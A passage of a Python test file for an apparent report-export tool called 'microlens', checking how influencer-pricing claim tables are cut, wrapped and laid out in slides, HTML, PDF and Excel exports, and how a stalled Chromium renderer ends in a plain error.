    wrap = re.search(r"\.table-wrap \{[^}]*\}", page).group(0)
    assert "overflow: auto" in wrap and "::-webkit-scrollbar" in page


def test_a_cut_cell_ends_between_words_not_inside_a_number():
    from microlens.export_model import shorten

    # "Instagram influencers with 10,000–100,0…" read as a number on the claims slide
    assert shorten("Instagram influencers with 10,000–100,000 followers", 40) == "Instagram influencers with…"
    claim = "Claim of the product brief; no primary source found"
    assert shorten(claim, 40) == "Claim of the product brief; no primary…"
    # one long word, or a last word that starts early: cut where the limit falls
    assert shorten("x" * 60, 40) == "x" * 39 + "…"
    assert shorten("short text", 40) == "short text"


# A claim's note as the Prices page's claims table has it: 56 characters of it on the slide, 160 in the PDF
LONG_NOTE = ("Share of businesses that pay under $250 per post: what brands pay, not what micro influencers charge, "
             "so not the same population as the brief's 84% claim. The nearest sourced figure.")


def claims_like() -> pd.DataFrame:
    return pd.DataFrame({"claim": ["brief: 84%, unverified", "brief: 97%, unverified", "Ignite Visibility 2019: 66%"],
                         "threshold": 250.0, "claimed_share": 0.84, "your_share": 0.897, "difference_pts": 6.0,
                         "influencers": 68, "population": "Instagram influencers with 10,000–100,000 followers",
                         "note": LONG_NOTE, "platform": "instagram"})


def _slide_table_shape(deck: Presentation):
    from microlens.export_pptx import FOOTNOTE_TOP

    slide = deck.slides[1]
    shape = next(s for s in slide.shapes if s.has_table)
    bottom = shape.top + sum(row.height for row in shape.table.rows)
    notes = [s for s in slide.shapes if s.has_text_frame and s.text_frame.text.startswith("Showing the first")]
    # inside the slide, and above the note on what it leaves out and the sources under it
    assert shape.left >= 0 and shape.left + sum(c.width for c in shape.table.columns) <= deck.slide_width
    assert all(bottom <= n.top for n in notes) and bottom <= FOOTNOTE_TOP
    return shape


def test_a_slide_tables_long_cells_wrap_whole_and_stay_on_the_slide():
    # the claims slide cut every note at 56 characters: "Share of businesses that pay under $250 per post: what…"
    deck = Presentation(io.BytesIO(to_pptx([Section("c", "Price-share claims", "90% under $250", None, claims_like())],
                                           "T")))
    shape = _slide_table_shape(deck)
    assert len(LONG_NOTE) > 150 and "…" not in LONG_NOTE
    notes = [cell.text for row in list(shape.table.rows)[1:] for cell in row.cells if cell.text.startswith("Share")]
    assert notes == [LONG_NOTE] * 3


def test_a_cell_too_long_for_a_slide_is_cut_between_words_and_marked():
    from microlens.export_pptx import MOST_FINDING_GROWTH, PPTX_CELL_CHARS, finding_layout

    # a pasted caption of 2,000 characters in every one of eight columns, under a finding that grows into the table's
    # room by nearly all it may
    caption = " ".join(f"word{i}" for i in range(330))
    wide = pd.DataFrame({f"caption {c}": [caption] * 3 for c in range(8)})
    finding = "A headline long enough to wrap over the slide; " + "; ".join(["a caveat that a client must read"] * 40)
    assert finding_layout(*headline_parts(finding)).growth > MOST_FINDING_GROWTH * 0.8
    deck = Presentation(io.BytesIO(to_pptx([Section("w", "Captions", finding, None, wide)], "T")))
    shape = _slide_table_shape(deck)
    cell = shape.table.cell(1, 0).text
    assert len(caption) > 2000 and len(cell) <= PPTX_CELL_CHARS and cell.endswith("…")
    assert caption.startswith(cell[:-1]) and caption[len(cell) - 1] == " "     # between words, not inside one


def test_a_page_shows_a_long_note_whole():
    # the PDF's claims page cut the third claim's note at 160 characters: "…as the brief's 84% claim. The…"
    page = report_html([Section("c", "Price-share claims", "90% under $250", None, claims_like())], "T", "", Brand(),
                       [None])
    assert page.count(f"<td>{html_escape(LONG_NOTE)}</td>") == 3


@chromium
def test_a_pdf_pages_long_note_reads_whole(tmp_path):
    if not shutil.which("pdftotext"):
        pytest.skip("needs poppler")
    pdf = tmp_path / "claims.pdf"
    pdf.write_bytes(to_pdf([Section("c", "Price-share claims", "90% under $250", None,
                                    claims_like()[["claim", "note"]])], "T"))
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    assert " ".join(text.replace("’", "'").split()).count(LONG_NOTE) == 3


def test_a_chromium_that_stops_answering_ends_the_export_with_a_plain_error(monkeypatch):
    # one of four PDF builds at once waited forever on a Chromium that had gone, kaleido's own timeout never firing
    import asyncio
    import time

    from microlens import export_chromium

    class Process:          # the Chromium process: killing it makes whatever waits on it fail
        def __init__(self):
            self.gone = asyncio.Event()

        def poll(self):
            return 0 if self.gone.is_set() else None

        def kill(self):
            self.gone.set()

    class Silent:
        def __init__(self):
            self.subprocess = Process()

        async def calc_fig(self, figure, opts):
            try:
                await asyncio.sleep(3600)
            finally:        # kaleido's clean-up reloads its tab: it waits on Chromium too, until that is killed
                await asyncio.wait_for(self.subprocess.gone.wait(), 5)

        async def create_tab(self, url):
            await asyncio.sleep(3600)

    monkeypatch.setattr(export_chromium, "RENDER_TIMEOUT_S", 0.05)
    monkeypatch.setattr(export_chromium, "PAGE_LOAD_TIMEOUT_S", 0.05)

    async def draw(browser):
        with pytest.raises(ExportUnavailable, match="did not answer within 0 s while drawing a chart; try the"):
            await export_chromium.render_images(browser, [go.Figure()], "png", 100, 100, 1)

    silent, started = Silent(), time.perf_counter()
    asyncio.run(draw(silent))
    assert silent.subprocess.gone.is_set() and time.perf_counter() - started < 2      # killed, not waited on
    with pytest.raises(ExportUnavailable, match="while opening a tab"):
        asyncio.run(export_chromium.print_pdf(Silent(), "<p>x</p>", ""))


def test_xlsx_years_are_numbers_and_undated_stays_a_word():
    # a section keeps its years as text so that a page can say "undated": in Excel "2018" sorted as text
    table = pd.DataFrame({"source": ["Markerly", "Modash", "HypeAuditor"], "year": ["2016", "undated", None]})
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx([Section("b", "Benchmarks", "3", None, table)])))["Benchmarks"]
    assert [sheet.cell(r, 2).value for r in range(2, 5)] == [2016, "undated", None]
    assert sheet.cell(2, 2).data_type == "n" and "," not in sheet.cell(2, 2).number_format     # not "2,016"
